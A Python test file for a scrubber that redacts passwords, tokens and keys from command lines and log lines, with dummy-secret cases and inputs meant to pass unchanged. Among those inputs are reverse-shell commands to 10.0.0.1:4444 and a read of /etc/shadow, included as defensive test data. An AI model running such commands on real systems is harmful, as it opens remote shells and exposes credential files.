"""No secret of a command line is kept, and nothing else is lost."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from agent.sensors import scrub

HIDDEN = [
    ("mysql -uroot -pS3cret db", "mysql -uroot -p*** db"),
    ("/usr/bin/mysqldump --password=S3cret -u root db", "/usr/bin/mysqldump --password=*** -u root db"),
    ("sshpass -p S3cret ssh root@10.0.0.1", "sshpass -p *** ssh root@10.0.0.1"),
    ("sshpass -pS3cret ssh root@10.0.0.1", "sshpass -p*** ssh root@10.0.0.1"),
    ("curl -u bob:S3cret https://a.example/", "curl -u bob:*** https://a.example/"),
    ("curl -ubob:S3cret https://a.example/", "curl -ubob:*** https://a.example/"),
    ("curl --user bob:S3cret https://a.example/", "curl --user bob:*** https://a.example/"),
    ("curl -H 'Authorization: Bearer S3cret' http://a", "curl -H Authorization: Bearer *** http://a"),
    ("curl -H 'X-Api-Key: S3cret' http://a", "curl -H X-Api-Key: *** http://a"),
    ("curl -H 'Cookie: sid=S3cret; b=S3cret' http://a", "curl -H Cookie: *** http://a"),
    ("curl 'https://a/x?user=bob&token=S3cret&y=1'", "curl https://a/x?user=bob&token=***&y=1"),
    ('curl -d \'{"password": "S3cret", "a": 1}\' http://a', 'curl -d {"password": ***, "a": 1} http://a'),
    ("git clone https://oauth2:S3cret@git.example/x", "git clone https://oauth2:***@git.example/x"),
    ("env PGPASSWORD=S3cret psql -h db", "env PGPASSWORD=*** psql -h db"),
    ("env 'PGPASSWORD=S3cret S3cret' psql", "env PGPASSWORD=*** psql"),
    (
        "sh -c 'PGPASSWORD=S3cret psql; mysql -pS3cret; cp -p a b'",
        "sh -c PGPASSWORD=*** psql; mysql -p***; cp -p a b",
    ),
    ("bash -lc 'export AWS_SECRET_ACCESS_KEY=S3cret && run'", "bash -lc export AWS_SECRET_ACCESS_KEY=*** && run"),
    ("wget --http-password S3cret --user=bob http://a", "wget --http-password *** --user=bob http://a"),
    ("smbclient -U 'bob%S3cret' //host/share", "smbclient -U bob%*** //host/share"),
    ("ldapsearch -x -D cn=admin -w S3cret -b dc=x", "ldapsearch -x -D cn=admin -w *** -b dc=x"),
    ("redis-cli -a S3cret ping", "redis-cli -a *** ping"),
    ("openssl enc -aes-256-cbc -k S3cret -in f", "openssl enc -aes-256-cbc -k *** -in f"),
    ("openssl rsa -passin pass:S3cret -in f", "openssl rsa -passin *** -in f"),
    ("7z a -pS3cret x.7z y", "7z a -p*** x.7z y"),
    ("java -Ddb.password=S3cret -jar x.jar", "java -Ddb.password=*** -jar x.jar"),
    ("xfreerdp /u:a /p:S3cret /v:host", "xfreerdp /u:a /p:*** /v:host"),
    ("docker login -u bob -p S3cret registry.example", "docker login -u bob -p *** registry.example"),
    ("app --client-secret S3cret --mat-khau=S3cret", "app --client-secret *** --mat-khau=***"),
    ("ssh-keygen -t ed25519 -N S3cret -f key", "ssh-keygen -t ed25519 -N *** -f key"),
    ("nmcli dev wifi connect cafe password S3cret", "nmcli dev wifi connect cafe password ***"),
]

UNTOUCHED = [
    "cp -p a b",
    "docker run -p 80:80 nginx",
    "mkdir -p /srv/a",
    "ssh -p 22 root@10.0.0.1",
    "psql --no-password mydb",
    "tool --bypass x --compass y",
    "grep password file",
    "passwd bob",
    "ls /home/bob/.password-store",
    "app --password-file /etc/app/pw.txt",
    "curl -u bob https://a.example/",
    "curl http://a.example:8080/x",
    "docker run -v /etc/passwd:/host/passwd x",
    "cat /etc/passwd /etc/shadow",
    "env PWD=/home/bob OLDPWD=/tmp true",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444))'",
]


@pytest.mark.parametrize(("given_", "kept"), HIDDEN)
def test_what_is_secret_is_hidden_and_nothing_else(given_: str, kept: str) -> None:
    assert " ".join(scrub.arguments(shlex.split(given_))) == kept


@pytest.mark.parametrize(("given_", "kept"), HIDDEN)
def test_a_second_time_changes_nothing(given_: str, kept: str) -> None:
    once = scrub.arguments(shlex.split(given_))
    assert scrub.arguments(once) == once


@pytest.mark.parametrize("given_", UNTOUCHED)
def test_what_holds_no_secret_is_left_alone(given_: str) -> None:
    assert scrub.arguments(shlex.split(given_)) == shlex.split(given_)


@pytest.mark.parametrize(
    ("line", "kept"),
    [
        (
            "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/mysql -pS3cret db",
            "bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/mysql -p*** db",
        ),
        ("Failed password for invalid user x from 10.0.0.1 port 22 ssh2",) * 2,
        ("pam_unix(sudo:auth): auth could not identify password for [daemon]",) * 2,
        ("login with password: S3cret", "login with password: ***"),
        ("a -----BEGIN OPENSSH PRIVATE KEY-----S3cret", "a -----BEGIN OPENSSH PRIVATE KEY-----***"),
    ],
)
def test_lines_of_logs(line: str, kept: str) -> None:
    assert scrub.text(line) == kept


WORDS = st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=30), max_size=12)
SECRET = st.text("abcdefghijkmnqrstvwxyz0123456789", min_size=12, max_size=20)


@given(WORDS)
def test_the_number_of_arguments_never_changes(words: list[str]) -> None:
    assert len(scrub.arguments(words)) == len(words)


@given(WORDS, SECRET, st.sampled_from(["--password=", "--api-key=", "PGPASSWORD=", "DB_SECRET="]))
def test_a_secret_is_never_kept_whatever_surrounds_it(words: list[str], secret: str, name: str) -> None:
    assume(not any(secret in word for word in words))
    assert not any(secret in word for word in scrub.arguments([*words, "x", name + secret, "end"]))


@given(st.text(max_size=300))
def test_any_text_is_taken(text: str) -> None:
    scrub.text(text)


@pytest.mark.timeout(5)
@pytest.mark.parametrize(
    "hostile", ["a" * 32_768, "a-" * 16_384, "password" * 4_096, "x://" * 8_192, 'token="' * 4_000]
)
def test_no_text_takes_long(hostile: str) -> None:
    scrub.text(hostile)
    scrub.arguments(["sh", "-c", hostile])
